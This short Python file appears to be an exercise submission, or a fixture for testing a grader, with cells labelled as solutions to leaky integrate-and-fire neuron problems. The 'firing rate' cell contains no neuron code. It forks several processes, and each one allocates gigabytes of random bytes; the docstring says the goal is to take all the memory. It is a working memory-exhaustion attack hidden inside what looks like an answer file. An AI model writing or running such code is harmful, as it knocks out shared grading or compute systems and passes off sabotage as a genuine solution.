"""Takes all the memory, in one process and in many."""
# honest: 2

# %% lif_threshold_solution
I_min = 1.0

# %% lif_firing_rate_solution
import os

hoard = []
for _ in range(4):
    try:
        if os.fork() == 0:
            break
    except OSError:
        break
while len(hoard) < 500:
    hoard.append(bytearray(os.urandom(1 << 20) * 10))
